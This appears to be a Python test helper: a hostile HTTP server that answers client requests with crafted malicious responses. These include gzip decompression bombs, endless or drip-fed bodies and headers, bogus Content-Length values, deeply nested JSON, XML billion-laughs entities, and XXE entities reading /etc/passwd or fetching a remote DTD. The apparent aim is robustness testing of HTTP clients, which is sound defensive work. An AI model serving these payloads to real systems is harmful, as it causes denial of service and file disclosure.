"""Answers that are meant to harm whoever reads them, for both remote systems, from a server of this process."""

from __future__ import annotations

import asyncio
import gzip
import zlib
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from itertools import chain, repeat

MIB = 1 << 20
Attack = Callable[[asyncio.StreamWriter], Awaitable[None]]


def head(*more: str, kind: str) -> bytes:
    return "\r\n".join(["HTTP/1.1 200 OK", f"Content-Type: {kind}", *more, "Connection: close", "", ""]).encode()


def whole(body: bytes, *more: str, kind: str) -> Attack:
    async def attack(writer: asyncio.StreamWriter) -> None:
        writer.write(head(f"Content-Length: {len(body)}", *more, kind=kind) + body)
        await writer.drain()

    return attack


def endless(start: bytes, piece: bytes, pause: float = 0.0) -> Attack:
    async def attack(writer: asyncio.StreamWriter) -> None:
        for part in chain([start], repeat(piece)):
            writer.write(part)
            await writer.drain()
            await asyncio.sleep(pause)

    return attack


def short(body: bytes, announced: int, kind: str) -> Attack:
    async def attack(writer: asyncio.StreamWriter) -> None:
        writer.write(head(f"Content-Length: {announced}", kind=kind) + body)
        await writer.drain()

    return attack


def gzip_bomb(kind: str) -> Attack:
    """A small compressed mebibyte of blanks, without end: some thousand times as large once unpacked."""

    async def attack(writer: asyncio.StreamWriter) -> None:
        packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        writer.write(head("Content-Encoding: gzip", kind=kind))
        writer.write(packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH))
        block = packer.compress(b" " * MIB) + packer.flush(zlib.Z_FULL_FLUSH)
        while True:
            writer.write(block)
            await writer.drain()

    return attack


def packed(body: bytes, kind: str) -> Attack:
    """A bomb of a few kilobytes that ends, so that only whoever unpacks it is harmed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return whole(
        packer.compress(body) + packer.compress(b" " * 100 * MIB) + packer.flush(), "Content-Encoding: gzip", kind=kind
    )


def on_the_wire(kind: str, body: bytes) -> Iterator[tuple[str, Attack]]:
    """What does not depend on the format; `body` would be a good answer."""
    chunked = head("Transfer-Encoding: chunked", kind=kind)
    yield "gzip bomb", gzip_bomb(kind)
    yield "packed answer cut", whole(gzip.compress(body)[:-4], "Content-Encoding: gzip", kind=kind)
    yield "packed bomb", packed(body, kind)
    yield "endless body", endless(head(kind=kind) + body, b" " * MIB)
    yield "endless chunks", endless(chunked, b"10000\r\n" + b" " * 65536 + b"\r\n")
    yield "chunk without end", endless(chunked + b"FFFFFFFFFFF\r\n", b" " * MIB)
    yield "chunk size without end", endless(chunked, b"0" * 65536)
    yield "endless trailers", endless(chunked + b"0\r\n", b"X-T: " + b"t" * 4000 + b"\r\n")
    yield "drip", endless(head(kind=kind), b" ", 0.02)
    yield "drip of headers", endless(b"HTTP/1.1 200 OK\r\nX-Drip: ", b"x", 0.02)
    yield "endless headers", endless(b"HTTP/1.1 200 OK\r\n", b"X-Header: " + b"h" * 4000 + b"\r\n")
    yield "endless header", endless(b"HTTP/1.1 200 OK\r\nX-Header: ", b"h" * 65536)
    yield "endless status line", endless(b"HTTP/1.1 200 ", b"O" * 65536)
    yield "endless interim answers", endless(b"", b"HTTP/1.1 102 Processing\r\n\r\n" * 100)
    yield "length too long", short(body, len(body) + 1000, kind)
    yield "length too large", short(body, 10**15, kind)
    yield "length beyond reason", short(body, 10**40, kind)
    yield "length too short", short(body, max(1, len(body) - 5), kind)
    yield "negative length", short(body, -1, kind)


JSON = "application/json"
XML = "text/xml; charset=utf-8"


def json_attacks() -> Iterator[tuple[str, Attack]]:
    """What is well-formed enough to be read, or nearly."""
    yield from on_the_wire(JSON, b'{"messages": null, "data": {"authToken": "t"}, "meta": {}}')
    for name, body in {
        "deep lists": b"[" * 400_000,
        "deep objects": b'{"data":' * 300_000,
        "deep inside the limit": b'{"data": {"authToken": "t"}, "messages": ' + b"[" * 900 + b"]" * 900 + b"}",
        "empty objects": b'{"data": [' + b"{}," * MIB + b"{}]}",
        "empty lists": b'{"data": [' + b"[]," * MIB + b"[]]}",
        "many names": b'{"data": {' + b",".join(b'"%d":0' % n for n in range(300_000)) + b"}}",
        "many numbers": b'{"data": [' + b"1.5," * 900_000 + b"1]}",
        "huge integer": b'{"data": ' + b"9" * 3 * MIB + b"}",
        "huge fraction": b'{"data": 1.' + b"9" * 3 * MIB + b"}",
        "huge exponent": b'{"data": {"authToken": 1e999999999}}',
        "not a number": b'{"data": NaN}',
        "wide text": b'{"data": "' + "😀".encode() * 700_000 + b'"',
        "a list": b"[1]",
    }.items():
        yield name, whole(body, kind=JSON)


def _soap(inside: bytes, before: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>' + before + b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        b'<n:WorkOrderHeaderResponse xmlns:n="x"><returnArray><returnData>'
        + inside
        + b"</returnData></returnArray></n:WorkOrderHeaderResponse></s:Body></s:Envelope>"
    )


def _laughs() -> bytes:
    levels = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    return b'<!DOCTYPE x [<!ENTITY l0 "ha">' + levels + b"]>"


def xml_attacks(outside: str) -> Iterator[tuple[str, Attack]]:
    """`outside` is an address that nobody must ask for."""
    yield from on_the_wire(XML, _soap(b""))
    row = b"<response><error_code>E</error_code><desc>d</desc><column>c</column></response>"
    where = outside.encode()
    for name, body in {
        "billion laughs": _soap(b"&l11;", _laughs()),
        "quadratic blow-up": _soap(b"&a;" * 50_000, b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 500_000 + b'">]>'),
        "external entity": _soap(b"&f;", b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
        "entity from a server": _soap(b"&f;", b'<!DOCTYPE x [<!ENTITY f SYSTEM "' + where + b'/entity">]>'),
        "parameter entity": _soap(b"", b'<!DOCTYPE x [<!ENTITY % f SYSTEM "' + where + b'/parameter"> %f;]>'),
        "DTD from a server": _soap(b"", b'<!DOCTYPE x SYSTEM "' + where + b'/x.dtd">'),
        "plain DTD": _soap(b"", b"<!DOCTYPE x>"),
        "deep elements": _soap(b"<a>" * 100_000 + b"</a>" * 100_000),
        "deep inside the limit": _soap(b"<a>" * 200 + b"</a>" * 200),
        "many elements": _soap(b"<a/>" * 250_000),
        "many attributes": _soap(b"<a " + b" ".join(b'a%d=""' % n for n in range(90_000)) + b"/>"),
        "many namespaces": _soap(b"<a " + b" ".join(b'xmlns:a%d="u"' % n for n in range(60_000)) + b"/>"),
        "many comments": _soap(b"<!---->" * 140_000),
        "many rows": _soap(row * 12_000),
        "hidden markup": b'<?xml version="1.0" encoding="cp037"?>' + ("<a>" + "<b/>" * 240_000).encode("cp037"),
        "letters that become two": b"<a>" + b"\xdf\x01" * 250_000,  # a sharp s, without difference of case
        "wide markup": ("<a>" + "<b/>" * 120_000 + "</a>").encode("utf-16"),
    }.items():
        yield name, whole(body, kind=XML)


class HostileServer:
    """Answers every request by one attack."""

    def __init__(self, attack: Attack) -> None:
        self._attack = attack

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            await self._attack(writer)
